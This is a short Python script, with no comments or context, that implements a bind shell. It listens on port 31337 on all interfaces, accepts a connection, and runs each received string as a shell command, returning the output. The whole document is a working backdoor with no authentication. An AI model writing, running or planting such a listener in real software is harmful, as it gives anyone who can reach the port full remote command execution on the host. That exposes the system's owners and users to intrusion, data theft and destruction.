import socket
import subprocess

server = socket.socket()
server.bind(("0.0.0.0", 31337))
server.listen(1)
client, _ = server.accept()
while True:
    command = client.recv(1024).decode()
    client.send(subprocess.getoutput(command).encode())
